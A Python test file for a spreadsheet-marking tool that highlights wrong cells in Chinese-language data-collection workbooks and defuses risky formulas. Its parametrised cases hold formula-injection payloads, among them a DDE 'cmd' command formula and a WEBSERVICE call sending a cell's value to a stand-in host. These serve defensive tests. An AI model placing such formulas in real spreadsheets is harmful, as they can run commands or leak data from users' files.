import os
from datetime import date
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula

from zhisheng.kit.sheets.limits import Limits
from zhisheng.kit.sheets.marking import (
    collect_marks,
    mark_workbook,
    write_refused_rows,
)
from zhisheng.kit.sheets.reading import read_workbook

from .packages import make_parts, make_row, make_sheet, write_package

FILL, AMBER = "FFFFC7CE", "FFFFEB9C"
LEGEND = "红色：必须修改；黄色：请核对，确实如此可不改。"


def make_original(path):
    book = openpyxl.Workbook()
    page = book.active
    page.title = "名单"
    page.append(["附件2"])
    page.append(["序号", "企业名称", "从业人员", "合计"])
    page.append([1, "甲公司", -5, "=C3+1"])
    page.append([2, "=1+1", 30, None])
    page["B4"].data_type = "s"
    page.append([3, "丙公司", 20, None])
    page["B2"].font = Font(bold=True, size=20)
    page.merge_cells("A4:A5")
    book.create_sheet("填表说明")["A1"] = "说明"
    book.save(path)
    return path


MARKS = {"名单": {(3, 3): "=不能为负", (3, 2): "名称有误", (5, 1): "序号有误"}}


def test_what_is_told_of_one_cell_stands_line_by_line():
    told = [("名单", 3, 2, "甲。"), (None, 1, 1, "乙。"), ("名单", 3, 2, "丙。")]

    assert collect_marks(told) == {
        "名单": {(3, 2): "甲。\n丙。"},
        None: {(1, 1): "乙。"},
    }


def test_an_xlsx_comes_back_as_it_was_with_wrong_cells_marked(tmp_path):
    original = make_original(tmp_path / "source")

    mark_workbook(original, MARKS, out=tmp_path / "marked.xlsx")

    book = openpyxl.load_workbook(tmp_path / "marked.xlsx")
    page = book["名单"]
    assert book.sheetnames == ["名单", "填表说明"]
    assert page["C3"].fill.fgColor.rgb == FILL
    assert page["C3"].comment.text == "=不能为负"
    assert page["A4"].comment.text == "序号有误"
    assert page["B5"].fill.fill_type is None
    assert (page["B2"].font.size, page["D3"].value, page["D3"].data_type) == (
        20,
        "=C3+1",
        "f",
    )
    assert (page["B4"].value, page["B4"].data_type) == ("=1+1", "s")
    assert [page.cell(2, column).value for column in (5, 6)] == ["处理结果", "处理说明"]
    assert page["E3"].value == "需修改"
    assert (page["F3"].value, page["F3"].data_type) == ("名称有误；=不能为负", "s")
    assert page["E4"].value is None
    assert page.auto_filter.ref == "A2:F5"
    assert [row for row in range(1, 6) if page.row_dimensions[row].hidden] == [4]
    assert not book["填表说明"].auto_filter.ref


@pytest.mark.parametrize(
    ("formula", "is_alive"),
    [
        ("=C3+1", True),
        ("=SUM(C3:C5)*1.1", True),
        ("=ROUND('填表 说明'!$A$1/2,2)", True),
        ('=IF(C3>0,"是","否")', True),
        ('=HYPERLINK("http://x.example","y")', False),
        ('=WEBSERVICE("http://x.example/?"&C3)', False),
        ("=_xlfn.WEBSERVICE(C3)", False),
        ("=cmd|' /C calc'!A0", False),
        ("=[1]Sheet1!A1", False),
        ("='C:\\[a.xlsx]Sheet1'!A1", False),
        ("='http://x.example/[a.xlsx]S'!A1", False),
        ("=SECRET", False),
        ("=C3+hyperlink(C3)", False),
        ('=INDIRECT("A1")', False),
    ],
)
def test_formulas_that_reach_outside_come_back_as_texts(formula, is_alive, tmp_path):
    original, out = tmp_path / "a.xlsx", tmp_path / "marked.xlsx"
    book = openpyxl.Workbook()
    book.active.append(["企业名称", "从业人员", "合计"])
    book.active.append(["甲公司", -5, formula])
    book.create_sheet("其他").append([formula])
    book.save(original)

    mark_workbook(original, {"Sheet": {(2, 2): "不能为负"}}, out=out)

    marked = openpyxl.load_workbook(out)
    cells = (marked["Sheet"]["C2"], marked["其他"]["A1"])
    assert {cell.value for cell in cells} == {formula}
    assert {cell.data_type for cell in cells} == {"f" if is_alive else "s"}
    assert {cell.quotePrefix for cell in cells} == {not is_alive}


def test_names_links_and_rules_that_reach_outside_are_dropped(tmp_path):
    original, out = tmp_path / "a.xlsx", tmp_path / "marked.xlsx"
    book = openpyxl.Workbook()
    page = book.active
    page.append(["企业名称", "从业人员"])
    page.append(["甲公司", -5])
    page["A2"].hyperlink = "http://x.example"
    page["E5"] = ArrayFormula("E5:E6", '=WEBSERVICE("http://x.example")')
    for name, text in (("good", "Sheet!$A$1"), ("bad", 'WEBSERVICE("x")')):
        book.defined_names[name] = DefinedName(name, attr_text=text)
    for formula in ('"是,否"', 'WEBSERVICE("x")'):
        page.add_data_validation(DataValidation("list", formula1=formula, sqref="B2"))
        page.conditional_formatting.add("B2", FormulaRule([formula]))
    book.save(original)

    mark_workbook(original, {"Sheet": {(2, 2): "不能为负"}}, out=out)

    marked = openpyxl.load_workbook(out)
    page = marked["Sheet"]
    assert (page["A2"].value, page["A2"].hyperlink) == ("甲公司", None)
    assert page["E5"].data_type == "s"
    assert list(marked.defined_names) == ["good"]
    rules = [rule for block in page.conditional_formatting for rule in block.rules]
    assert [rule.formula for rule in rules] == [['"是,否"']]
    kept = page.data_validations.dataValidation
    assert [rule.formula1 for rule in kept] == ['"是,否"']


def test_a_second_return_uses_the_same_columns(tmp_path):
    first = tmp_path / "first.xlsx"
    mark_workbook(make_original(tmp_path / "source"), MARKS, out=first)

    mark_workbook(first, {"名单": {(4, 2): "新问题"}}, out=tmp_path / "second.xlsx")

    page = openpyxl.load_workbook(tmp_path / "second.xlsx")["名单"]
    assert [cell.value for cell in page[2]][4:] == ["处理结果", "处理说明"]
    assert (page["E3"].value, page["E4"].value, page["F4"].value) == (
        None,
        "需修改",
        "新问题",
    )


def test_a_csv_comes_back_as_xlsx(tmp_path):
    original = tmp_path / "a.csv"
    original.write_bytes(
        "企业名称,电话,日期\n甲公司,'+86 139,2024-1-1\n=1+1,1,x\n".encode("gb18030")
    )

    mark_workbook(original, {None: {(3, 1): "名称有误"}}, out=tmp_path / "marked.xlsx")

    page = openpyxl.load_workbook(tmp_path / "marked.xlsx").active
    assert [[cell.value for cell in row] for row in page] == [
        ["企业名称", "电话", "日期", "处理结果", "处理说明", "原表行号"],
        ["甲公司", "+86 139", "2024-1-1", None, None, None],
        ["=1+1", "1", "x", "需修改", "名称有误", 3],
    ]
    assert (page["A3"].data_type, page["A3"].fill.fgColor.rgb) == ("s", FILL)
    assert page["A3"].comment.text == "名称有误"
    assert page.row_dimensions[2].hidden
    assert page.auto_filter.ref == "A1:F3"


DOUBTS = {"名单": {(3, 2), (5, 1)}}


def test_what_may_be_right_has_another_colour_and_a_legend(tmp_path):
    original, out = make_original(tmp_path / "source"), tmp_path / "marked.xlsx"

    mark_workbook(original, MARKS, out=out, doubts=DOUBTS)

    page = openpyxl.load_workbook(out)["名单"]
    colours = {cell: page[cell].fill.fgColor.rgb for cell in ("C3", "B3", "A4")}
    assert colours == {"C3": FILL, "B3": AMBER, "A4": AMBER}
    assert (page["E3"].value, page["E5"].value) == ("需修改", "请核对")
    assert page["F1"].value == LEGEND
    filters = page.auto_filter.filterColumn[0].filters.filter
    assert filters == ["需修改", "请核对"]


def test_a_rebuilt_sheet_has_the_colours_and_the_legend_too(tmp_path):
    original, out = make_original(tmp_path / "source"), tmp_path / "marked.xlsx"

    write_refused_rows(original, MARKS, out=out, doubts=DOUBTS)

    page = openpyxl.load_workbook(out)["名单"]
    colours = {cell: page[cell].fill.fgColor.rgb for cell in ("C3", "B3", "A4")}
    assert colours == {"C3": FILL, "B3": AMBER, "A4": AMBER}
    assert (page["E3"].value, page["E4"].value) == ("需修改", "请核对")
    assert page["F1"].value == LEGEND


@pytest.mark.parametrize("write", [mark_workbook, write_refused_rows])
def test_the_legend_is_a_comment_where_nothing_stands_above_the_heading(
    write, tmp_path
):
    original, out = tmp_path / "a.xlsx", tmp_path / "marked.xlsx"
    book = openpyxl.Workbook()
    book.active.append(["企业名称", "从业人员"])
    book.active.append(["甲公司", -5])
    book.save(original)

    write(original, {"Sheet": {(2, 2): "？"}}, out=out, doubts={"Sheet": {(2, 2)}})

    page = openpyxl.load_workbook(out)["Sheet"]
    assert page["D1"].value == "处理说明"
    assert page["D1"].comment.text == LEGEND


def test_without_doubts_there_is_no_legend(tmp_path):
    original, out = make_original(tmp_path / "source"), tmp_path / "marked.xlsx"

    mark_workbook(original, MARKS, out=out)

    page = openpyxl.load_workbook(out)["名单"]
    assert (page["F1"].value, page["F2"].comment) == (None, None)


def test_only_refused_rows_are_written_below_their_heading(tmp_path):
    original = make_original(tmp_path / "source.xlsx")

    write_refused_rows(original, MARKS, out=tmp_path / "refused.xlsx")

    book = openpyxl.load_workbook(tmp_path / "refused.xlsx")
    rows = [[cell.value for cell in row] for row in book["名单"]]
    assert book.sheetnames == ["名单"]
    assert rows[1] == [
        "序号",
        "企业名称",
        "从业人员",
        "合计",
        "处理结果",
        "处理说明",
        "原表行号",
    ]
    assert [row[6] for row in rows[2:]] == [3, 5]
    assert not any(row.hidden for row in book["名单"].row_dimensions.values())


def test_a_workbook_too_rich_to_load_is_rebuilt_from_its_values(tmp_path):
    styled = "".join('<c r="A{0}" s="0"/>' for _ in range(1))
    rows = [
        make_row(
            1, *(f'<c r="{c}1" t="inlineStr"><is><t>{c}列</t></is></c>' for c in "ABC")
        )
    ]
    rows.append(make_row(2, '<c r="A2"><v>1</v></c>'))
    rows += [make_row(n, styled.format(n)) for n in range(3, 300_000)]
    original = write_package(tmp_path / "a.xlsx", make_parts(make_sheet(*rows)))
    out = tmp_path / "marked.xlsx"

    mark_workbook(
        original,
        {"名单": {(2, 1): "有误"}},
        out=out,
        limits=Limits(memory_bytes=250 << 20),
    )

    assert out.stat().st_size < 20_000
    assert openpyxl.load_workbook(out).active["D2"].value == "需修改"


def test_headings_may_be_named(tmp_path):
    path = tmp_path / "a.xlsx"
    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet("名单")
    for row, values in enumerate(
        [["提升前", "", "提升后"], ["收入", "利润", "收入"], ["a", "b", "c"]]
    ):
        for column, value in enumerate(values):
            sheet.write_string(row, column, value)
    book.close()

    mark_workbook(
        path, {"名单": {(3, 1): "x"}}, out=tmp_path / "m.xlsx", headers={"名单": 2}
    )

    page = openpyxl.load_workbook(tmp_path / "m.xlsx").active
    assert page["D2"].value == "处理结果"


CASES = Path(
    os.environ.get("ZHISHENG_CASES", Path(__file__).parents[6] / "shared" / "cases")
)


@pytest.mark.conformance
@pytest.mark.skipif(not CASES.is_dir(), reason=f"no reference cases in {CASES}")
def test_a_legacy_workbook_comes_back_as_xlsx(tmp_path):
    original = CASES / "messy" / "roster_e.xls"

    mark_workbook(original, {"Sheet1": {(3, 8): "有误"}}, out=tmp_path / "m.xlsx")

    before, after = (
        read_workbook(original).sheets[0],
        read_workbook(tmp_path / "m.xlsx").sheets[0],
    )
    assert [row[:12] for row in after.rows] == before.rows
    assert after.rows[1][8] == date(2024, 4, 6)
    assert after.rows[2][12:] == ["需修改", "有误", 3.0]
